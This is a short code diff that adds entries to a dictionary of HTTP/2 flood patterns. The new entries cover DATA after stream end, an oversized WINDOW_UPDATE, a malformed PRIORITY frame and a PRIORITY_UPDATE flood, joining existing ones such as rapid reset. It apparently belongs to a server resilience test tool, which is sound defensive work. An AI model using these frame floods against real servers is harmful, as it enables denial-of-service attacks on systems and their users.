@@ -437,6 +437,10 @@ FLOODS = {
     "rapid reset": lambda c, n: c.ask_frame(2 * n + 1) + frame(RST_STREAM, 0, 2 * n + 1, u32(8)),
     "errors that the server is provoked to": lambda c, n: c.ask_frame(2 * n + 1)
     + frame(WINDOW_UPDATE, 0, 2 * n + 1, u32(0)),
+    "errors by DATA behind the end": lambda c, n: c.ask_frame(2 * n + 1) + frame(DATA, 0, 2 * n + 1, b"x"),
+    "errors by a window that is too large": lambda c, n: c.ask_frame(2 * n + 1)
+    + frame(WINDOW_UPDATE, 0, 2 * n + 1, u32(0x7FFFFFFF)) * 2,
+    "errors by PRIORITY of 4 bytes": lambda c, n: c.ask_frame(2 * n + 1) + frame(PRIORITY, 0, 2 * n + 1, bytes(4)),
     "malformed requests": lambda c, n: frame(HEADERS, 5, 2 * n + 1, c.encode([("x", "y")])),
     "PING": lambda c, n: frame(PING, 0, 0, bytes(8)) * 1000,
     "SETTINGS": lambda c, n: frame(SETTINGS, 0, 0, setting(99, 1)) * 1000,
@@ -446,6 +450,7 @@ FLOODS = {
     "a window of a byte at a time": lambda c, n: (b"" if n else c.ask_frame(1, path="/large.bin"))
     + frame(WINDOW_UPDATE, 0, 1, u32(1)) * 1000,
     "PRIORITY": lambda c, n: frame(PRIORITY, 0, 7, u32(0) + b"x") * 1000,
+    "PRIORITY_UPDATE": lambda c, n: frame(PRIORITY_UPDATE, 0, 0, u32(7) + b"u=1") * 1000,
 }
 
 
